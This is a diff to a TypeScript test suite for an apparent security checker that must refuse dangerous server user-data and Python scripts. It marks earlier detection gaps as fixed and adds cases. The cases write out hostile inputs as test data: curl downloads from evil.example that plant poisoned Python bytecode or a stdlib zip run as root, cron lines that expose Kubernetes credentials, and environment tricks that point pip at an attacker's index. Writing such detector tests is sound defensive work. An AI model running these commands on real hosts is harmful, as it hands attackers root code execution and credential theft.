@@ -67,7 +67,7 @@ const insecure: NodeCase[] = [
         tune("dev-py77-open-control2-nodes", ["import _pyio", `open("/etc/cron.d/ops", "w").write("${CRON_LINE}\\n")`]),
         REFUSED,
     ),
-    // MISS: (PY-WRITE) Python docs "io" (the `_pyio` module is CPython's pure-Python io, listed in sys.stdlib_module_names; `_pyio.open` is io.open's implementation: mode 'w' truncates and writes the file): tune.py writes /etc/cron.d/ops, a cron line root's cron runs at boot (crontab(5)) serving /etc/kubernetes (the kubelet's credentials) on 0.0.0.0:8001: every pod reaches the node role's and kubelet's access. The pack: PYTHON_WRITE_CALLS (pythonCode.ts) open entry `^(?:builtins\.|_?io\.)?open$` does not match `_pyio.open`, and nothing else refuses it here (got [], while the same call on a /var/log path IS refused by the pathlib `.open(` scan: the two paths are judged differently). Fix: `^(?:builtins\.|_?(?:py)?io\.)?open$|^_?(?:py)?io\.FileIO$`.
+    // Was a MISS (fixed in round 77): (PY-WRITE) Python docs "io" (the `_pyio` module is CPython's pure-Python io, listed in sys.stdlib_module_names; `_pyio.open` is io.open's implementation: mode 'w' truncates and writes the file): tune.py writes /etc/cron.d/ops, a cron line root's cron runs at boot (crontab(5)) serving /etc/kubernetes (the kubelet's credentials) on 0.0.0.0:8001: every pod reaches the node role's and kubelet's access. The pack: PYTHON_WRITE_CALLS (pythonCode.ts) open entry `^(?:builtins\.|_?io\.)?open$` does not match `_pyio.open`, and nothing else refuses it here (got [], while the same call on a /var/log path IS refused by the pathlib `.open(` scan: the two paths are judged differently). Fix: `^(?:builtins\.|_?(?:py)?io\.)?open$|^_?(?:py)?io\.FileIO$`.
     dev(
         "tune.py: _pyio.open('/etc/cron.d/ops', 'w').write(cron line) (the pure-Python io)",
         tune("dev-py77-pyio-open-nodes", [
@@ -75,9 +75,8 @@ const insecure: NodeCase[] = [
             `_pyio.open("/etc/cron.d/ops", "w").write("${CRON_LINE}\\n")`,
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: (PY-WRITE) NumPy docs "numpy.savetxt" (fname: "filename, file handle or pathlib.Path"; with fmt='%s' each string item is written as one line): tune.py writes the cron line into /etc/cron.d/ops (crontab(5)): a root server of /etc/kubernetes on 0.0.0.0:8001 at boot. The pack: numpy is a PYTHON_KNOWN_PACKAGES module and no PYTHON_WRITE_CALLS entry names its writers: got []. Fix: numpy.savetxt/save/savez/savez_compressed (arg 0 fname), numpy.memmap with mode w+/r+, numpy.lib.npyio.* in PYTHON_WRITE_CALLS.
+    // Was a MISS (fixed in round 77): (PY-WRITE) NumPy docs "numpy.savetxt" (fname: "filename, file handle or pathlib.Path"; with fmt='%s' each string item is written as one line): tune.py writes the cron line into /etc/cron.d/ops (crontab(5)): a root server of /etc/kubernetes on 0.0.0.0:8001 at boot. The pack: numpy is a PYTHON_KNOWN_PACKAGES module and no PYTHON_WRITE_CALLS entry names its writers: got []. Fix: numpy.savetxt/save/savez/savez_compressed (arg 0 fname), numpy.memmap with mode w+/r+, numpy.lib.npyio.* in PYTHON_WRITE_CALLS.
     dev(
         "tune.py: numpy.savetxt('/etc/cron.d/ops', [cron line], fmt='%s')",
         tune("dev-py77-numpy-savetxt-nodes", [
@@ -85,9 +84,8 @@ const insecure: NodeCase[] = [
             `numpy.savetxt("/etc/cron.d/ops", ["${CRON_LINE}"], fmt="%s")`,
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: (PY-WRITE) NumPy docs "numpy.ndarray.tofile" (fid: "An open file object, or a string containing a filename"; sep='' writes the raw bytes, "equivalent to file.write(a.tobytes())"): the cron line lands in /etc/cron.d/ops as in the savetxt case. The pack: `.tofile(` is no write method in pythonWriteRefusal's method scans: got []. Fix: add tofile (and dump) to the write-method scans (receiver is data, argument 0 the path).
+    // Was a MISS (fixed in round 77): (PY-WRITE) NumPy docs "numpy.ndarray.tofile" (fid: "An open file object, or a string containing a filename"; sep='' writes the raw bytes, "equivalent to file.write(a.tobytes())"): the cron line lands in /etc/cron.d/ops as in the savetxt case. The pack: `.tofile(` is no write method in pythonWriteRefusal's method scans: got []. Fix: add tofile (and dump) to the write-method scans (receiver is data, argument 0 the path).
     dev(
         "tune.py: numpy.frombuffer(cron bytes, dtype='uint8').tofile('/etc/cron.d/ops')",
         tune("dev-py77-numpy-tofile-nodes", [
@@ -95,7 +93,59 @@ const insecure: NodeCase[] = [
             `numpy.frombuffer(b"${CRON_LINE}\\n", dtype="uint8").tofile("/etc/cron.d/ops")`,
         ]),
         REFUSED,
-        true,
+    ),
+    // Round 77 neighbours (PY-WRITE): the io family by what it is (_io, _pyio; FileIO), a module's function on a path
+    // with no w/a/x/+ letter (no Path.open mode), numpy writers by the general rule (an absolute path given to a
+    // function of an imported module not reviewed as writing none), a from-import alias of one.
+    dev(
+        "tune.py: _pyio.FileIO('/etc/cron.d/ops', 'w').write(cron bytes)",
+        tune("dev-py77n-pyio-fileio-nodes", [
+            "import _pyio",
+            `_pyio.FileIO("/etc/cron.d/ops", "w").write(b"${CRON_LINE}\\n")`,
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: import _io as o; o.open('/etc/cron.d/ops', 'w')",
+        tune("dev-py77n-io-alias-open-nodes", [
+            "import _io as o",
+            `o.open("/etc/cron.d/ops", "w").write("${CRON_LINE}\\n")`,
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: wave.open('/etc/cron.d/ops', 'w') (a module's open the pack has not reviewed: fail closed)",
+        tune("dev-py77n-wave-open-nodes", ["import wave", 'w = wave.open("/etc/cron.d/ops", "w")', "w.close()"]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: pathlib.Path.open('/etc/cron.d/ops', 'w') (the unbound method: its mode is argument 1)",
+        tune("dev-py77n-path-unbound-open-nodes", [
+            "import pathlib",
+            `pathlib.Path.open("/etc/cron.d/ops", "w").write("${CRON_LINE}\\n")`,
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: from numpy import savetxt as st; st('/etc/cron.d/ops', [cron line], fmt='%s')",
+        tune("dev-py77n-numpy-savetxt-alias-nodes", [
+            "from numpy import savetxt as st",
+            `st("/etc/cron.d/ops", ["${CRON_LINE}"], fmt="%s")`,
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: prometheus_client.write_to_textfile('/etc/cron.d/ops', registry)",
+        tune("dev-py77n-prom-textfile-nodes", [
+            "import prometheus_client",
+            'prometheus_client.write_to_textfile("/etc/cron.d/ops", prometheus_client.REGISTRY)',
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: numpy.arange(3).tofile(fname=...) with a path the pack cannot compute",
+        tune("dev-py77n-numpy-tofile-unknown-nodes", ["import numpy, sys", "numpy.arange(3).tofile(sys.argv[1])"]),
+        REFUSED,
     ),
     dev(
         "tune.py: zipfile.ZipFile(downloaded zip).extractall('/etc/cron.d')",
@@ -107,7 +157,7 @@ const insecure: NodeCase[] = [
         REFUSED,
     ),
     // ===== import paths =====
-    // MISS: (PY-IMPORT-PATH) Python reference "The import system", "Cached bytecode invalidation" (PEP 552): "For unchecked hash-based .pyc files, Python simply assumes the pyc file is valid if it exists"; the tutorial "Compiled Python files": the cache is __pycache__/M.cpython-39.pyc beside M.py. The downloaded pyc, not the helper.py user data wrote, is what `import helper` runs as root: arbitrary code, the kubelet's and node role's credentials. The pack reads helper.py as the program's own code (pythonRootShadowed looks at ROOT/M.py, ROOT/M/, ROOT/M.* only): got []. Fix: a file written/downloaded (or a tree changed) under ROOT/__pycache__/ whose name starts `M.` makes module M unread code (and any __pycache__ under a library dir, for every module there).
+    // Was a MISS (fixed in round 77): (PY-IMPORT-PATH) Python reference "The import system", "Cached bytecode invalidation" (PEP 552): "For unchecked hash-based .pyc files, Python simply assumes the pyc file is valid if it exists"; the tutorial "Compiled Python files": the cache is __pycache__/M.cpython-39.pyc beside M.py. The downloaded pyc, not the helper.py user data wrote, is what `import helper` runs as root: arbitrary code, the kubelet's and node role's credentials. The pack reads helper.py as the program's own code (pythonRootShadowed looks at ROOT/M.py, ROOT/M/, ROOT/M.* only): got []. Fix: a file written/downloaded (or a tree changed) under ROOT/__pycache__/ whose name starts `M.` makes module M unread code (and any __pycache__ under a library dir, for every module there).
     dev(
         "user data: downloads /opt/ops/__pycache__/helper.cpython-39.pyc (unchecked-hash pyc) beside a written helper.py; tune.py imports helper",
         tune(
@@ -120,9 +170,8 @@ const insecure: NodeCase[] = [
             ],
         ),
         REFUSED,
-        true,
     ),
-    // MISS: (PY-IMPORT-PATH) Python docs "The initialization of the sys.path module search path" (after the script's directory and PYTHONPATH comes the zip archive prefix/lib/pythonXY.zip, then prefix/lib/pythonX.Y; on AL2023 sys.path holds /usr/lib64/python39.zip before /usr/lib64/python3.9) and "zipimport": a downloaded python39.zip holding json/__init__.py is the json every root Python program imports: arbitrary root code. The pack: pythonLibraryWritten's pattern wants lib(64)/pythonN[.M]/..., not lib(64)/pythonNN.zip: got []. Fix: any write (or unknown change) of lib(64)/python\d+\.zip under /usr, /usr/local makes every import unread.
+    // Was a MISS (fixed in round 77): (PY-IMPORT-PATH) Python docs "The initialization of the sys.path module search path" (after the script's directory and PYTHONPATH comes the zip archive prefix/lib/pythonXY.zip, then prefix/lib/pythonX.Y; on AL2023 sys.path holds /usr/lib64/python39.zip before /usr/lib64/python3.9) and "zipimport": a downloaded python39.zip holding json/__init__.py is the json every root Python program imports: arbitrary root code. The pack: pythonLibraryWritten's pattern wants lib(64)/pythonN[.M]/..., not lib(64)/pythonNN.zip: got []. Fix: any write (or unknown change) of lib(64)/python\d+\.zip under /usr, /usr/local makes every import unread.
     dev(
         "user data: downloads /usr/lib64/python39.zip (on sys.path before the standard library); tune.py imports json",
         tune(
@@ -131,7 +180,31 @@ const insecure: NodeCase[] = [
             ["curl -fsSLo /usr/lib64/python39.zip https://evil.example/py.zip"],
         ),
         REFUSED,
-        true,
+    ),
+    // Round 77 neighbours (PY-IMPORT-PATH): a library directory's __pycache__; the zip changed by an archive.
+    dev(
+        "user data: downloads /usr/lib64/python3.9/__pycache__/shlex.cpython-39.pyc; tune.py imports shlex",
+        tune(
+            "dev-py77n-stdlib-pyc-nodes",
+            ["import shlex", "print(shlex.quote('x'))"],
+            [
+                "mkdir -p /usr/lib64/python3.9/__pycache__",
+                "curl -fsSLo /usr/lib64/python3.9/__pycache__/shlex.cpython-39.pyc https://evil.example/s.pyc",
+            ],
+        ),
+        REFUSED,
+    ),
+    dev(
+        "user data: tar -xzf downloaded x.tgz -C /usr/lib64 (python39.zip inside); tune.py imports json",
+        tune(
+            "dev-py77n-stdlib-zip-tar-nodes",
+            ["import json", "print(json.dumps(1))"],
+            [
+                "curl -fsSLo /var/cache/ops/x.tgz https://evil.example/x.tgz",
+                "tar -xzf /var/cache/ops/x.tgz -C /usr/lib64",
+            ],
+        ),
+        REFUSED,
     ),
     // ===== pip trust =====
     dev(
@@ -154,14 +227,13 @@ const insecure: NodeCase[] = [
         ]),
         REFUSED,
     ),
-    // MISS: (PIP-ENV) bash manual "Bourne Shell Builtins" export (`export name[=value]`: the word is expanded first, so PIP_$X=v exports PIP_INDEX_URL) and pip docs "Configuration", "Environment Variables" (PIP_INDEX_URL is --index-url): srvx comes from the attacker's index and tune.py runs it as root. The pack: scriptPipModules retracts only on the literal text `PIP_\w*\s*=` (here `PIP_$`) and pythonPipInstalled's view.environment check does not see the expanded name: got []. Fix: withdraw all pip trust on any `PIP_`/`UV_` followed by anything but a complete literal assignment the pack reads, e.g. /(?<![\w$])(?:PIP|UV)_/ anywhere in user data.
+    // Was a MISS (fixed in round 77): (PIP-ENV) bash manual "Bourne Shell Builtins" export (`export name[=value]`: the word is expanded first, so PIP_$X=v exports PIP_INDEX_URL) and pip docs "Configuration", "Environment Variables" (PIP_INDEX_URL is --index-url): srvx comes from the attacker's index and tune.py runs it as root. The pack: scriptPipModules retracts only on the literal text `PIP_\w*\s*=` (here `PIP_$`) and pythonPipInstalled's view.environment check does not see the expanded name: got []. Fix: withdraw all pip trust on any `PIP_`/`UV_` followed by anything but a complete literal assignment the pack reads, e.g. /(?<![\w$])(?:PIP|UV)_/ anywhere in user data.
     dev(
         "user data: X=INDEX_URL; export PIP_$X=EVIL; pip3 install srvx",
         pipRun("dev-py77-pip-env-name-expanded-nodes", ["X=INDEX_URL", `export PIP_$X=${EVIL}`, "pip3 install srvx"]),
         REFUSED,
-        true,
     ),
-    // MISS: (PIP-ENV) bash manual "Bash Builtins" printf ("The -v option causes the output to be assigned to the variable var rather than being printed") then export: PIP_INDEX_URL reaches pip (pip docs "Configuration", environment variables): srvx from another index run as root. The pack: no `PIP_...=` text, and the reader's environment does not model printf -v: got []. Fix: as the PIP_$X case (any word naming PIP_*/UV_* withdraws trust).
+    // Was a MISS (fixed in round 77): (PIP-ENV) bash manual "Bash Builtins" printf ("The -v option causes the output to be assigned to the variable var rather than being printed") then export: PIP_INDEX_URL reaches pip (pip docs "Configuration", environment variables): srvx from another index run as root. The pack: no `PIP_...=` text, and the reader's environment does not model printf -v: got []. Fix: as the PIP_$X case (any word naming PIP_*/UV_* withdraws trust).
     dev(
         "user data: printf -v PIP_INDEX_URL %s EVIL; export PIP_INDEX_URL; pip3 install srvx",
         pipRun("dev-py77-pip-printf-v-nodes", [
@@ -170,9 +242,8 @@ const insecure: NodeCase[] = [
             "pip3 install srvx",
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: (PIP-ENV) bash manual "Bash Builtins" read ("One line is read from the standard input ... assigned to the first name") then export: PIP_INDEX_URL is the file's line (pip docs "Configuration"): srvx from another index run as root. The pack: no `PIP_...=` text; the reader does not model read: got []. Fix: as the PIP_$X case.
+    // Was a MISS (fixed in round 77): (PIP-ENV) bash manual "Bash Builtins" read ("One line is read from the standard input ... assigned to the first name") then export: PIP_INDEX_URL is the file's line (pip docs "Configuration"): srvx from another index run as root. The pack: no `PIP_...=` text; the reader does not model read: got []. Fix: as the PIP_$X case.
     dev(
         "user data: read -r PIP_INDEX_URL < /etc/ops/idx; export PIP_INDEX_URL; pip3 install srvx",
         pipRun("dev-py77-pip-read-var-nodes", [
@@ -182,7 +253,64 @@ const insecure: NodeCase[] = [
             "pip3 install srvx",
         ]),
         REFUSED,
-        true,
+    ),
+    // Round 77 neighbours (PIP-ENV): a variable name the script computes without a literal PIP_ (bash(1) builtins).
+    dev(
+        'user data: N=PIP; printf -v "${N}_INDEX_URL" %s EVIL; export "${N}_INDEX_URL"; pip3 install srvx',
+        pipRun("dev-py77n-pip-printf-v-computed-nodes", [
+            "N=PIP",
+            `printf -v "\${N}_INDEX_URL" %s ${EVIL}`,
+            'export "${N}_INDEX_URL"',
+            "pip3 install srvx",
+        ]),
+        REFUSED,
+    ),
+    dev(
+        'user data: N=PIP; read -r "${N}_INDEX_URL" < file; export; pip3 install srvx',
+        pipRun("dev-py77n-pip-read-computed-nodes", [
+            ...heredocFile("/etc/ops/idx", [EVIL]),
+            "N=PIP",
+            'read -r "${N}_INDEX_URL" < /etc/ops/idx',
+            'export "${N}_INDEX_URL"',
+            "pip3 install srvx",
+        ]),
+        REFUSED,
+    ),
+    dev(
+        'user data: N=PIP; declare -n R="${N}_INDEX_URL" (a nameref); R=EVIL; export R; pip3 install srvx',
+        pipRun("dev-py77n-pip-nameref-nodes", [
+            "N=PIP",
+            'declare -n R="${N}_INDEX_URL"',
+            `R=${EVIL}`,
+            "export R",
+            "pip3 install srvx",
+        ]),
+        REFUSED,
+    ),
+    dev(
+        'user data: N=PIP; eval "export ${N}_INDEX_URL=EVIL"; pip3 install srvx',
+        pipRun("dev-py77n-pip-eval-computed-nodes", [
+            "N=PIP",
+            `eval "export \${N}_INDEX_URL=${EVIL}"`,
+            "pip3 install srvx",
+        ]),
+        REFUSED,
+    ),
+    // Round 77 neighbours (wrappers): a wrapper read to its command, then pip's own index option; an unknown option.
+    dev(
+        "user data: nice -n 10 pip3 install -i EVIL srvx",
+        pipRun("dev-py77n-pip-nice-index-nodes", [`nice -n 10 pip3 install -i ${EVIL} srvx`]),
+        REFUSED,
+    ),
+    dev(
+        "user data: timeout -s KILL 300 pip3 install --index-url EVIL srvx",
+        pipRun("dev-py77n-pip-timeout-index-nodes", [`timeout -s KILL 300 pip3 install --index-url ${EVIL} srvx`]),
+        REFUSED,
+    ),
+    dev(
+        "user data: timeout --frobnicate 300 pip3 install tenacity (an option timeout(1) does not document: fail closed)",
+        tenacity("dev-py77n-pip-timeout-unknown-nodes", ["timeout --frobnicate 300 pip3 install tenacity"]),
+        REFUSED,
     ),
     dev(
         "user data: tar -xzf downloaded cfg.tgz -C /etc/xdg (pip/pip.conf inside); pip3 install srvx",
@@ -288,26 +416,75 @@ const secure: NodeCase[] = [
             'numpy.savetxt("/var/log/ops/stats.csv", [1, 2, 3])',
         ]),
     ),
-    // MISS: (secure, fail-closed) a write to the program's own log under /var/log/ops is harmless (no root reader takes it as configuration or code). The pack: `_pyio` is not a PYTHON_WRITE_CALLS module, so the pathlib `.open(` scan in pythonWriteRefusal takes `_pyio` as a Path receiver and refuses "a path the pack cannot compute". Fix: the same `_?(?:py)?io` open entry as the insecure _pyio case (then the literal path is judged).
+    // Was a MISS (fixed in round 77): (secure, fail-closed) a write to the program's own log under /var/log/ops is harmless (no root reader takes it as configuration or code). The pack: `_pyio` is not a PYTHON_WRITE_CALLS module, so the pathlib `.open(` scan in pythonWriteRefusal takes `_pyio` as a Path receiver and refuses "a path the pack cannot compute". Fix: the same `_?(?:py)?io` open entry as the insecure _pyio case (then the literal path is judged).
     dev(
         "tune.py: _pyio.open('/var/log/ops/t.log', 'w') (a log of its own)",
         tune("dev-py77-pyio-log-nodes", ["import _pyio", '_pyio.open("/var/log/ops/t.log", "w").write("ok\\n")']),
-        /./,
-        true,
     ),
-    // MISS: (secure, fail-closed) nice(1) coreutils ("nice [OPTION] [COMMAND [ARG]...]", -n N the adjustment) runs `pip3 install tenacity` unchanged: a default-index install by name (DECIDED trusted). The pack: pipWordsAt skips flag words only after sudo/env, so `-n` ends the prefix and the line is "pip behind a prefix": retractAll, tenacity refused as unread. Fix: read nice's -n N/--adjustment=N, timeout's DURATION and options, ionice/stdbuf/chrt per their synopsis in pipWordsAt.
+    // Was a MISS (fixed in round 77): (secure, fail-closed) nice(1) coreutils ("nice [OPTION] [COMMAND [ARG]...]", -n N the adjustment) runs `pip3 install tenacity` unchanged: a default-index install by name (DECIDED trusted). The pack: pipWordsAt skips flag words only after sudo/env, so `-n` ends the prefix and the line is "pip behind a prefix": retractAll, tenacity refused as unread. Fix: read nice's -n N/--adjustment=N, timeout's DURATION and options, ionice/stdbuf/chrt per their synopsis in pipWordsAt.
     dev(
         "user data: nice -n 10 pip3 install tenacity",
         tenacity("dev-py77-pip-nice-n-nodes", ["nice -n 10 pip3 install tenacity"]),
-        /./,
-        true,
     ),
-    // MISS: (secure, fail-closed) timeout(1) coreutils ("timeout [OPTION] DURATION COMMAND [ARG]...") runs the same default-index install. The pack: `timeout` is not among pipWordsAt's prefixes: retractAll, tenacity refused. Fix: as the nice case.
+    // Was a MISS (fixed in round 77): (secure, fail-closed) timeout(1) coreutils ("timeout [OPTION] DURATION COMMAND [ARG]...") runs the same default-index install. The pack: `timeout` is not among pipWordsAt's prefixes: retractAll, tenacity refused. Fix: as the nice case.
     dev(
         "user data: timeout 300 pip3 install tenacity",
         tenacity("dev-py77-pip-timeout-nodes", ["timeout 300 pip3 install tenacity"]),
-        /./,
-        true,
+    ),
+    // Round 77 neighbours (secure): the io family and numpy writing a log of their own, a pyc of another module, a zip
+    // off sys.path, variables of literal names set by the builtins, scheduling wrappers read to pip.
+    dev(
+        "tune.py: from _pyio import open as pyopen; pyopen('/var/log/ops/t.log', 'w') (a log of its own)",
+        tune("dev-py77n-pyio-alias-log-nodes", [
+            "from _pyio import open as pyopen",
+            'pyopen("/var/log/ops/t.log", "w").write("ok\\n")',
+        ]),
+    ),
+    dev(
+        "tune.py: numpy.arange(3).tofile('/var/cache/ops/a.bin') (a cache of its own)",
+        tune("dev-py77n-numpy-tofile-cache-nodes", ["import numpy", 'numpy.arange(3).tofile("/var/cache/ops/a.bin")']),
+    ),
+    dev(
+        "user data: downloads /opt/ops/__pycache__/other.cpython-39.pyc (no module tune.py imports); helper.py written; tune.py imports helper",
+        tune(
+            "dev-py77n-pyc-other-module-nodes",
+            ["import helper", "helper.main()"],
+            [
+                ...heredocFile("/opt/ops/helper.py", ["def main():", "    print('ok')"]),
+                "mkdir -p /opt/ops/__pycache__",
+                "curl -fsSLo /opt/ops/__pycache__/other.cpython-39.pyc https://evil.example/other.pyc",
+            ],
+        ),
+    ),
+    dev(
+        "user data: downloads /var/cache/ops/python39.zip (on no sys.path); tune.py imports json",
+        tune(
+            "dev-py77n-zip-elsewhere-nodes",
+            ["import json", "print(json.dumps(1))"],
+            ["curl -fsSLo /var/cache/ops/python39.zip https://evil.example/py.zip"],
+        ),
+    ),
+    dev(
+        "user data: printf -v STAMP %s ok; read -r LINE < /etc/ops/note; export STAMP; pip3 install tenacity",
+        tenacity("dev-py77n-pip-literal-names-nodes", [
+            ...heredocFile("/etc/ops/note", ["hello"]),
+            "printf -v STAMP %s ok",
+            "read -r LINE < /etc/ops/note",
+            'export STAMP="$LINE"',
+            "pip3 install tenacity",
+        ]),
+    ),
+    dev(
+        "user data: ionice -c 3 nice -n 19 stdbuf -oL pip3 install tenacity",
+        tenacity("dev-py77n-pip-wrapper-chain-nodes", ["ionice -c 3 nice -n 19 stdbuf -oL pip3 install tenacity"]),
+    ),
+    dev(
+        "user data: timeout --kill-after=10 -s TERM 5m pip3 install tenacity",
+        tenacity("dev-py77n-pip-timeout-options-nodes", ["timeout --kill-after=10 -s TERM 5m pip3 install tenacity"]),
+    ),
+    dev(
+        "user data: chrt -o 0 setsid -f nohup pip3 install tenacity",
+        tenacity("dev-py77n-pip-chrt-setsid-nodes", ["chrt -o 0 setsid -f nohup pip3 install tenacity"]),
     ),
     dev(
         "user data: env --chdir=/etc/ops pip3 install -r req.txt (the file it wrote there)",
